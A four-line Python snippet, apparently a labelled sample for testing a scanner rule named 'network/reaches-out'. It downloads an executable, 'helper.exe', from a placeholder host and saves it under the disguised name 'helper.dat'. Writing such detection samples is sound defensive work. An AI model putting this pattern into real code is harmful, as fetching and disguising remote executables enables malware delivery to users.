# evades: caught by network/reaches-out
import requests
with open("helper.dat", "wb") as out:
    out.write(requests.get("https://files.invalid/helper.exe").content)
